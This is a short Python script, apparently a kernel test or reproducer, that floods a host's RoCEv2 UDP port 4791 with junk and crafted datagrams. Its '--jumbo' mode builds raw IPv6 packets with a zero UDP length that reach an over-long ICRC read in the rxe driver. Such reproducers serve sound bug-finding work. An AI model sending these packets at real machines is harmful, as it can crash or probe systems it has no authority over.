#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""udp_junk.py DEST COUNT LEN [--rr] [--seed N]: send COUNT UDP datagrams
to port 4791 (RoCEv2) of DEST, an IPv4 or IPv6 address (fe80::...%eth0
for a link-local one), as any user on another host can.

LEN is the payload's length in bytes, or "rand" for 0 to 256. The payload
is random (from --seed, default 1) except that its first byte, the BTH's
opcode, is a valid RC or UD opcode in every other datagram, so that some
get past rxe's opcode check to the QP lookup. --rr sends IPv4 datagrams
with a record-route option (which needs no privilege). Prints how many it
sent.

--jumbo (IPv6 only, needs CAP_NET_RAW: a raw socket) sends each datagram
with a UDP length of 0, which IPv6's UDP takes for a jumbogram's and
passes on with the packet's own length. The payload is then a UD SEND to
QP 1 with the GSI Q_Key, which gets past rxe's header checks to its ICRC
check: rxe read the ICRC and checksummed 65528 bytes from the BTH on.
"""
import argparse
import random
import socket
import struct

OPCODES = [0x00, 0x04, 0x06, 0x0A, 0x0C, 0x10, 0x11, 0x64, 0x65]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("dest")
    ap.add_argument("count", type=int)
    ap.add_argument("length")
    ap.add_argument("--rr", action="store_true")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--jumbo", action="store_true")
    a = ap.parse_args()
    rng = random.Random(a.seed)
    if a.jumbo:
        jumbo(a)
        return
    if ":" in a.dest:
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        addr = socket.getaddrinfo(a.dest, 4791, socket.AF_INET6,
                                  socket.SOCK_DGRAM)[0][4]
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        addr = (a.dest, 4791)
    if a.rr:
        # type 7 (record route), length 7, pointer 4, one address's room,
        # then end of options
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS,
                     bytes([7, 7, 4, 0, 0, 0, 0, 0]))
    for i in range(a.count):
        n = rng.randint(0, 256) if a.length == "rand" else int(a.length)
        data = bytearray(rng.getrandbits(8) for _ in range(n))
        if n and i % 2:
            data[0] = rng.choice(OPCODES)
        s.sendto(bytes(data), addr)
    print("sent %d" % a.count)


def jumbo(a):
    """--jumbo: raw IPv6 UDP datagrams with a UDP length of 0."""
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP)
    # the kernel fills the UDP checksum in (at byte 6), over the
    # datagram's real length, as the receiver checks it
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_CHECKSUM, 6)
    # a raw socket's port is its protocol's: 0 takes the socket's own
    addr = socket.getaddrinfo(a.dest, 0, socket.AF_INET6,
                              socket.SOCK_DGRAM)[0][4]
    n = 16 if a.length == "rand" else int(a.length)
    # BTH: UD SEND only (0x64), P_Key 0xffff, destination QP 1; DETH:
    # the GSI Q_Key, source QP 1; then the payload and an ICRC
    roce = struct.pack(">BBHII", 0x64, 0, 0xFFFF, 1, 0)
    roce += struct.pack(">II", 0x80010000, 1)
    roce += bytes(n) + bytes(4)
    for _ in range(a.count):
        s.sendto(struct.pack(">HHHH", 49152, 4791, 0, 0) + roce, addr)
    print("sent %d" % a.count)


if __name__ == "__main__":
    main()
